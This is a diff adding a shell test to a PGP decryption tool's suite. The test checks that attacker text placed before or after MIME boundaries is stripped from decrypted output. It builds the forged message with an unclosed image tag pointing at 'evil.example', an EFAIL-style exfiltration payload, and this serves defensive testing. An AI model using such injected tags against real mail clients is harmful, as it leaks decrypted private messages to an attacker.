@@ -353,6 +353,19 @@ last_decrypt_result() {
 	done
 }
 
+@test "forgery 3: text in a prologue or epilogue does not go out beside the plaintext" {
+	fv_only_pgp file asc >"$HD/m0"
+	# the attacker's text before the first and after the last boundary
+	sed -e 's|^Content-Type: multipart/mixed; boundary=mix$|&\n\n<img src="http://evil.example/?|' \
+	    -e '$a evil tail <img src="http://evil.example/?' "$HD/m0" >"$HD/m"
+	grep -c 'evil.example' "$HD/m"
+	run -0 --separate-stderr hdpgp-decrypt -c "$HD/m"
+	assert_line --regexp '^X-Hdpgp-Encryption: decrypted; .*coverage=full'
+	run -0 --separate-stderr stdout_to "$HD/out" hdpgp-decrypt "$HD/m"
+	leaves_have "$HD/out" "$FV_MARK"
+	run -1 grep -c 'evil.example' "$HD/out"
+}
+
 @test "forgery 3: control: encrypted files alone (and a blank text) are decrypted in place" {
 	fv_only_pgp file asc >"$HD/m"
 	run -0 --separate-stderr hdpgp-decrypt -c "$HD/m"
